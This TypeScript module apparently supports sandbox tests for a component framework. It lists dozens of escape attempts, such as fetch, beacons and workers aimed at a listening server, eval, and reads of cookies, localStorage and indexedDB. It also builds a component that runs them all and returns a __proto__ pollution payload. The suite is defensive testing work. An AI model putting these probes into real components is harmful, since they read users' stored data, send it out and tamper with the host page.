import type { Attempt } from './python.ts';

const attempts = (rows: Readonly<Record<string, string>>): readonly Attempt[] =>
  Object.entries(rows).map(([name, code]) => ({ name, code }));

/**
 * Attempts of a component in TypeScript to reach what is not its own. Each is the body of an async function
 * with `url` (a server that hears all who come), `socket` (the same for web sockets) and `app` (the page's own
 * address). It worked if it gives anything but undefined or null.
 */
export const TYPESCRIPT: readonly Attempt[] = attempts({
  fetch: 'return (await fetch(url + "fetch")).status;',
  'fetch without cors':
    'return await fetch(url + "nocors", { mode: "no-cors", method: "POST", keepalive: true });',
  'fetch of the page': 'return (await fetch(app + "/index.html")).status;',
  XMLHttpRequest:
    'const r = new XMLHttpRequest(); r.open("GET", url + "xhr", false); r.send(); return r.status;',
  EventSource: 'return heard(new EventSource(url + "events"), "open");',
  WebSocket: 'return heard(new WebSocket(socket), "open");',
  WebTransport: 'return await new any.WebTransport(url.replace("http", "https")).ready;',
  sendBeacon: 'return any.navigator.sendBeacon(url + "beacon");',
  importScripts: 'any.importScripts(url + "scripts"); return 1;',
  'a worker of that server': 'return heard(new Worker(url + "worker"), "message");',
  'a worker of the page': 'return heard(new Worker(app + "/assets/x.js"), "message");',
  'a shared worker': 'return new any.SharedWorker(url + "shared");',
  'a worker that fetches':
    'const text = `fetch("${url}nested").then(() => postMessage(1))`; return heard(new Worker(URL.createObjectURL(new Blob([text]))), "message");',
  'a worker from data:':
    'return heard(new Worker("data:text/javascript,fetch(%22" + url + "data%22)"), "message");',
  FontFace: 'return await new any.FontFace("f", `url(${url}font)`).load();',
  RTCPeerConnection: 'return new any.RTCPeerConnection();',
  compileStreaming: 'return await WebAssembly.compileStreaming(fetch(url + "wasm"));',
  caches: 'return await (await any.caches.open("x")).add(url + "cache");',
  eval: 'return any.eval("1 + 1");',
  Function: 'return new Function("return 1")();',
  'a function of an async one':
    'return await new (Object.getPrototypeOf(async () => 1).constructor)("return 1")();',
  'a timer of text':
    'any.setTimeout("self.textRan = 1", 0); await new Promise((done) => setTimeout(done, 50)); return any.textRan;',
  localStorage: 'return any.localStorage.getItem("x");',
  cookies: 'return any.document.cookie;',
  'the cookie store': 'return await any.cookieStore.getAll();',
  indexedDB:
    'return (await any.indexedDB.databases()).length || (await heard(any.indexedDB.open("patchbay"), "success"));',
  'the private file system': 'return await any.navigator.storage.getDirectory();',
  locks: 'return await any.navigator.locks.query();',
  'a channel to the page':
    'new BroadcastChannel("patchbay").postMessage("pwned"); return undefined;',
  parent: 'return any.parent.document.title;',
  top: 'any.top.location = url + "top"; return 1;',
  open: 'return any.open(url + "open");',
  alert: 'return any.alert("pwned") ?? null;',
  'an address':
    'any.location = url + "location"; return any.location.href.startsWith(url) || null;',
  'a module of that server':
    'const text = `import(${JSON.stringify(url + "module")}).then(() => postMessage(1))`; return heard(new Worker(URL.createObjectURL(new Blob([text]))), "message");',
  'prototypes of the page':
    'any.Object.prototype.polluted = "yes"; any.Array.prototype.polluted = "yes"; any.Promise.prototype.polluted = "yes"; return undefined;',
});

/**
 * A module whose component makes all attempts in its first step, and says which worked.
 *
 * @param told it gives that as its value too, where there is no log to read it in
 */
export function attackingTypeScript(url: string, app: string, told = false): string {
  const rows = TYPESCRIPT.map(
    ({ name, code }) =>
      `  [${JSON.stringify(name)}, async (url: string, socket: string, app: string) => {\n    ${code}\n  }],`,
  );
  const given = [url, url.replace('http', 'ws'), app].map((one) => JSON.stringify(one)).join(', ');
  return `import { Component } from 'patchbay';

const any = globalThis as any;

/** What an object says first; nothing where it says nothing for long. */
function heard(from: any, event: string): Promise<unknown> {
  return new Promise((done) => {
    setTimeout(() => done(undefined), 1000);
    from.addEventListener(event, () => done(event));
  });
}

const ATTEMPTS: [string, (url: string, socket: string, app: string) => Promise<unknown>][] = [
${rows.join('\n')}
];

export class Own extends Component {
  static io = { inputs: ['x'], outputs: ['y'] };
  y: unknown;

  async step(): Promise<void> {
    const worked: string[] = [];
    for (const [name, attempt] of ATTEMPTS) {
      try {
        const given = await attempt(${given});
        if (given !== undefined && given !== null) worked.push(name);
      } catch {}
    }
    const outcome = 'TRIED ' + ATTEMPTS.length + ' WORKED ' + (worked.join('; ') || 'none');
    console.log(outcome);
    this.y = ${told ? 'outcome' : `JSON.parse('{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}')`};
  }
}
`;
}
